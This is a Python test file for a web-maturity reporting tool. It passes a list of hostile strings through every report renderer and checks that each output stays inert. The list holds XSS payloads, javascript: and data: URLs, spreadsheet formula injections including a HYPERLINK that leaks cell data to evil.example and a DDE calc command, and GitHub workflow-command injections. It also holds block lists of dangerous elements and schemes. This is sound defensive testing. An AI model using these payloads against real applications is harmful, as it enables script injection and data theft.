"""One hostile corpus through every renderer; each output is parsed and checked, never just searched.

Reports are published, and almost everything in them comes from pages nobody on our side
controls (titles, URLs, snippets, selectors) or from configuration (rubric text, agency names,
tags). The corpus carries markup, ``<script>``, ``javascript:`` and ``data:`` URLs, attribute
break-outs, spreadsheet formulas, workflow-command injections, control characters and very
long strings; every renderer must turn them into inert text:

* HTML and SVG: no script element, no ``on*`` attribute, no ``javascript:``/``data:``/``vbscript:``
  URL in ``href``/``src``/``xlink:href``/``action``/``formaction``, and well-formed SVG;
* CSV: no cell a spreadsheet would run as a formula;
* JUnit and SARIF: well-formed XML / JSON (SARIF against its published schema when present);
* JSON: loads, and the scorecard validates against ``maturity schema``;
* Markdown: rendered by a CommonMark parser with raw HTML allowed, it yields no HTML element
  the text did not ask for, and no link to a script URL;
* GitHub annotations: one command per line, nothing injected;
* everything encodes as UTF-8 (reports are written as UTF-8 files).

Lone surrogates (JavaScript strings may hold them, UTF-8 cannot) are kept out where text enters,
so renderers never see one: the browser gatherer replaces them, the rubric loader refuses them and
the URL normaliser rejects URLs with them (tested at the end).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import lxml.etree
import lxml.html
import pytest
import yaml
from factories import ORIGIN, axe, document, page, site
from markdown_it import MarkdownIt
from test_ci_reports import SCHEMA_DIR
from test_history import store_run

from maturity.core.gates import CheckConfig, GateResult, evaluate
from maturity.core.history import agencies, site_histories
from maturity.core.model import AxeFacts, AxeNode, AxeRule, Link, RunInfo
from maturity.core.rubric import LoadedRubric, builtin_rubric, load_rubric
from maturity.core.scoring import Scorecard, score
from maturity.store import Store
from maturity.store.readback import load_snapshots
from reports import svg
from reports.annotations import render_annotations
from reports.check_json import render_check_json
from reports.csv_export import render_csv
from reports.csv_export import render_json as render_export_json
from reports.html import render_html
from reports.json_report import json_schema, render_json
from reports.junit import render_junit
from reports.markdown import render_markdown
from reports.sarif import render_sarif
from reports.site import build_site

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(2)>",
    "javascript:alert(3)",
    " java\tscript:alert(4)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==",
    "vbscript:msgbox(6)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "control \x00\x01\x08\x0b\x1b\x7f\x85 characters",
    "]]><![CDATA[<script>alert(7)</script>]]>",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "::error file=x::injected%0A::warning::more\n::error::newline",
    "`code` | pipe | **bold** [link](javascript:alert(8)) ![img](x onerror=alert(9))",
    "<iframe src=javascript:alert(10)></iframe><object data=x></object><base href=//evil.example/>",
    '<a href="javascript:alert(11)">x</a>&lt;script&gt;&#x3C;script&#x3E;',
    "<style>body{background:url(javascript:alert(12))}</style><meta http-equiv=refresh content=0;url=//evil>",
    "W" * 20_000,
]
EVERYTHING = " ".join(HOSTILE[:-1])
PAGE_TEXT = HOSTILE
RUBRIC_TEXT = EVERYTHING
SCRIPT_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "{http://www.w3.org/1999/xlink}href")
FORBIDDEN_ELEMENTS = {"script", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "foreignobject"}


# ---------------------------------------------------------------------------
# The corpus, in every field a report shows
# ---------------------------------------------------------------------------

POISONED_KEYS = {
    "title",
    "failure_title",
    "description",
    "goal",
    "evidence",
    "collection",
    "sample",
    "name",
    "level_name",
    "level_description",
    "selector",
    "snippet",
    "detail",
    "reason",
    "url",
    "target",
    "help_url",
    "check_id",
    "dimension",
    "id",
    "version",
    "source",
    "fingerprint",
    "error",
    "message",
    "error_messages",
    "next_steps",
    "target_url",
    "browser_version",
    "axe_version",
    "tool_version",
    "started_at",
    "finished_at",
    "user_agent",
}


def poison(value: str) -> str:
    """The same value always gets the same hostile suffix, so ids still match across the scorecard."""
    if value.startswith(("http://", "https://")) and sum(map(ord, value)) % 3 == 0:
        return HOSTILE[3]  # a javascript: URL where a link would go
    return f"{value} {HOSTILE[sum(map(ord, value)) % len(HOSTILE)]}"


def poison_tree(data: Any, key: str | None = None) -> Any:
    if isinstance(data, dict):
        out = {}
        for k, v in data.items():
            new_key = poison(k) if key == "next_steps" else k
            out[new_key] = poison_tree(v, k if k in POISONED_KEYS else (key if key == "next_steps" else None))
        return out
    if isinstance(data, list):
        return [poison_tree(v, key) for v in data]
    if isinstance(data, str) and key in POISONED_KEYS and data:
        return poison(data)
    return data


def hostile_rubric(tmp_path: Path) -> LoadedRubric:
    """The default rubric with hostile text in every free-text field a report shows."""
    data = yaml.safe_load((Path(builtin_rubric().source)).read_text(encoding="utf-8"))
    data["title"] = "Rubric " + RUBRIC_TEXT
    data["description"] = RUBRIC_TEXT
    for i, level in enumerate(data["levels"]):
        level["name"] = f"L{i} {HOSTILE[i % 10]}"
        level["description"] = RUBRIC_TEXT
    for i, dim in enumerate(data["dimensions"]):
        dim["title"] = f"{dim['id']} {HOSTILE[(i + 5) % 10]}"
        dim["goal"] = dim["evidence"] = dim["sample"] = RUBRIC_TEXT
        dim["next_steps"] = {level: RUBRIC_TEXT for level in (2, 3, 4, 5)}
    path = tmp_path / "hostile-rubric.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return load_rubric(path)


def hostile_axe() -> dict[str, Any]:
    return AxeFacts(
        version="4.12.1",
        rules=[
            AxeRule(
                id="image-alt",
                outcome="violation",
                impact="critical",
                tags=["wcag2a"],
                help="Images must have alternative text " + RUBRIC_TEXT,
                help_url="javascript:alert(13)",
                nodes=[AxeNode(target=h, html=h, summary=h) for h in PAGE_TEXT],
            )
        ],
    ).model_dump(mode="json")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Any]:
    tmp = tmp_path_factory.mktemp("safety")
    rubric = hostile_rubric(tmp)
    bad = f"{ORIGIN}/{HOSTILE[1]}"
    links = [Link(href=f"{ORIGIN}/{h}", text=h).model_dump() for h in PAGE_TEXT]
    pages = [
        page(),
        page(bad, document=document(url=bad, title=RUBRIC_TEXT, lang=HOSTILE[0], links=links), axe=hostile_axe()),
        page(f"{ORIGIN}/x", document=document(url=f"{ORIGIN}/x", lang=None, title=HOSTILE[-1]), axe=axe()),
    ]
    clean = score(rubric, pages, site())
    card = Scorecard.model_validate(poison_tree(clean.model_dump(mode="json")))
    info = RunInfo.model_validate(
        poison_tree(
            RunInfo(
                crawl_id=7,
                scoring_id=9,
                target_url=f"{ORIGIN}/",
                started_at="2025-03-01T09:00:00+00:00",
                tool_version="0.1",
                axe_version="4.12.1",
                browser_version="Chromium 1",
                settings={"user_agent": "ua", "throttle": "mobile", "perf_runs": 1, "max_pages": 3},
                pages_found=3,
            ).model_dump(mode="json")
        )
    )
    config = CheckConfig.model_validate({"gates": {"max_findings": {"critical": 0, "total": 1}, "min_level": 5}})
    result = GateResult.model_validate(poison_tree(evaluate(clean, pages, config).model_dump(mode="json")))
    # the portfolio side: an agency, tags and a site URL that are hostile too, stored and read back
    store = Store(f"sqlite:///{tmp / 'm.db'}")
    for i, origin in enumerate([ORIGIN, "https://second.example.gov"]):
        store_run(
            store,
            [pages[0].model_copy(update={"url": f"{origin}/"}), pages[1]],
            origin=origin,
            agency=HOSTILE[i] + " " + RUBRIC_TEXT,
            tags={"owner": HOSTILE[7], "branch": HOSTILE[8]},
            rubric=rubric,
        )
        store_run(store, [], origin=origin, agency=HOSTILE[i] + " " + RUBRIC_TEXT, failed=RUBRIC_TEXT, days=1)
    runs_by_site = load_snapshots(store)
    return {
        "card": card,
        "info": info,
        "result": result,
        "pages": pages,
        "runs_by_site": runs_by_site,
        "histories": site_histories(runs_by_site),
        "rubric": rubric,
    }


# ---------------------------------------------------------------------------
# What every output must be
# ---------------------------------------------------------------------------


def assert_utf8(text: str) -> None:
    text.encode("utf-8")  # raises on a lone surrogate: the report could not be written


def _scheme(value: str) -> str:
    """A URL's scheme as a browser reads it: control characters and whitespace removed, lower case."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def assert_inert_markup(root: Any, where: str) -> None:
    """No element that runs code, no event handler, no script URL (HTML or SVG tree from lxml)."""
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = lxml.etree.QName(el).localname.lower()
        assert tag not in FORBIDDEN_ELEMENTS, f"{where}: <{tag}> element"
        if tag == "meta":
            assert (el.get("http-equiv") or "").lower() != "refresh", f"{where}: meta refresh"
        for name, value in el.attrib.items():
            local = lxml.etree.QName(name).localname.lower() if name.startswith("{") else name.lower()
            assert not local.startswith("on"), f"{where}: <{tag} {name}=...>"
            if local in ("href", "src", "action", "formaction") or name in URL_ATTRIBUTES:
                assert not _scheme(value).startswith(SCRIPT_SCHEMES), f"{where}: <{tag} {name}={value[:60]!r}>"
            if local == "style":
                assert "javascript:" not in _scheme(value) and "expression(" not in value.lower(), where
        if tag == "style" and el.text:
            assert "javascript:" not in _scheme(el.text), f"{where}: script URL in <style>"


def assert_safe_html(text: str, where: str) -> None:
    assert_utf8(text)
    root = lxml.html.document_fromstring(text)
    assert_inert_markup(root, where)
    for svg_el in root.iter("svg"):
        assert_inert_markup(svg_el, where + " (inline svg)")


def assert_safe_svg(text: str, where: str) -> None:
    assert_utf8(text)
    root = lxml.etree.fromstring(text.encode("utf-8"))  # well-formed XML, or this raises
    assert lxml.etree.QName(root).localname == "svg"
    assert_inert_markup(root, where)


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_safe_csv(text: str, where: str) -> None:
    assert_utf8(text)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"{where}: formula cell {cell[:40]!r}"


# ---------------------------------------------------------------------------
# The renderers
# ---------------------------------------------------------------------------


def test_html_scorecard(corpus):
    text = render_html(corpus["info"], corpus["card"])
    assert_safe_html(text, "scorecard")
    shown = lxml.html.document_fromstring(text).text_content()
    assert "<script>alert(1)</script>" in shown  # shown as text, not dropped
    assert "=HYPERLINK(" in shown


def test_svg_charts():
    labels = [h[:200] for h in HOSTILE]
    charts = {
        "bar": svg.bar_chart([(h, 50.0) for h in labels], title=EVERYTHING, desc=EVERYTHING, axis_label=HOSTILE[0]),
        "meter": svg.level_meter(2, [(i + 1, h) for i, h in enumerate(labels[:5])], title=EVERYTHING, desc=HOSTILE[1]),
        "line": svg.line_chart(
            [(h, [10.0, None, 30.0]) for h in labels[:4]],
            [HOSTILE[0], HOSTILE[1], HOSTILE[2]],
            title=EVERYTHING,
            desc=HOSTILE[4],
            bands=[(50.0, HOSTILE[2])],
            unit=HOSTILE[1],
        ),
        "count": svg.count_chart([(h, 3.0) for h in labels[:6]], title=EVERYTHING, axis_label=HOSTILE[1], unit="<b>"),
    }
    for name, text in charts.items():
        assert_safe_svg(text, f"svg {name}")
        assert "<script>alert(1)</script>" in "".join(lxml.etree.fromstring(text.encode()).itertext())


def test_markdown_summary_has_no_raw_html(corpus):
    text = render_markdown([corpus["card"]], corpus["result"])
    assert_utf8(text)
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    root = lxml.html.fragment_fromstring(rendered, create_parent="div")
    allowed = {"div", "p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"}
    allowed |= {"code", "em", "strong", "a", "br", "details", "summary", "hr", "blockquote", "pre"}
    tags = {el.tag for el in root.iter() if isinstance(el.tag, str)}
    assert tags <= allowed, f"raw HTML came through: {tags - allowed}"
    assert_inert_markup(root, "markdown")
    assert "<script>alert(1)</script>" in root.text_content()


def test_junit_is_well_formed_xml(corpus):
    text = render_junit([corpus["card"]], corpus["result"])
    assert_utf8(text)
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "testsuites"
    assert any("<script>alert(1)</script>" in (el.text or "") for el in root.iter())  # escaped, kept


def test_sarif_is_json_and_valid(corpus):
    text = render_sarif([corpus["card"]], corpus["result"])
    assert_utf8(text)
    doc = json.loads(text)
    path = SCHEMA_DIR / "sarif-schema-2.1.0.json"
    if path.is_file():
        from jsonschema import Draft4Validator

        Draft4Validator(json.loads(path.read_text(encoding="utf-8"))).validate(doc)
    for run in doc["runs"]:
        for rule in run["tool"]["driver"]["rules"]:
            assert not _scheme(rule.get("helpUri", "")).startswith(SCRIPT_SCHEMES)


def test_json_scorecard_and_check_json(corpus):
    from jsonschema import Draft202012Validator

    text = render_json(corpus["info"], corpus["card"])
    assert_utf8(text)
    doc = json.loads(text)
    Draft202012Validator(json_schema()).validate(doc)
    assert doc["scorecard"] == json.loads(corpus["card"].model_dump_json())
    check = render_check_json([corpus["card"]], corpus["result"], [corpus["info"]])
    assert_utf8(check)
    assert json.loads(check)["schema"] == "maturity/check"


def test_github_annotations_are_one_command_per_line(corpus):
    text = render_annotations([corpus["card"]], corpus["result"], file=HOSTILE[17])
    assert_utf8(text)
    lines = [line for line in text.split("\n") if line]  # the runner splits on \n (and \r\n) only
    assert lines
    for line in lines:
        assert re.fullmatch(r"::(error|warning|notice)( [^:]*)?::[^\r\n]*", line), line[:120]
    assert "\r" not in text and all(line.startswith("::") for line in text.split("\n") if line)


def test_csv_and_json_exports(corpus):
    text = render_csv(corpus["histories"])
    assert_safe_csv(text, "portfolio csv")
    assert "'=HYPERLINK(" in text and "'+cmd" in text  # neutralised, not dropped
    views = agencies(corpus["runs_by_site"], "mean")
    exported = render_export_json(views, method="mean", generated_at="2025-03-01T09:00:00+00:00", title=EVERYTHING)
    assert_utf8(exported)
    json.loads(exported)


def test_static_site(corpus):
    files = build_site(
        corpus["runs_by_site"],
        title=EVERYTHING,
        rubrics={corpus["rubric"].sha256: corpus["rubric"]},
        generated_at="2025-03-01T09:00:00+00:00",
        tool_version=HOSTILE[0],
    )
    assert any(name.startswith("agency/") for name in files)
    for name, content in files.items():
        if name.endswith(".html"):
            assert_safe_html(content, name)
        elif name.endswith(".svg"):
            assert_safe_svg(content, name)
        elif name.endswith(".csv"):
            assert_safe_csv(content, name)
        elif name.endswith(".json"):
            assert_utf8(content)
            json.loads(content)
        assert re.fullmatch(r"[a-z0-9_./-]+", name), f"file name from hostile text: {name!r}"


def test_lone_surrogates_are_stopped_where_text_enters(tmp_path):
    from crawlers.mapping import scrub as _scrub
    from maturity.kernel.errors import ConfigError
    from maturity.kernel.urls import normalize_url

    assert normalize_url("https://agency.example.gov/\ud800") is None
    rubric = tmp_path / "r.yaml"
    rubric.write_text('id: r\nversion: "1"\ntitle: "bad \\ud800"\nlevels: []\ndimensions: []\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="title"):
        load_rubric(rubric)
    assert _scrub({"title": "a\ud800b", "links": [{"text": "\udfff"}]}) == {
        "title": "a\ufffdb",
        "links": [{"text": "\ufffd"}],
    }
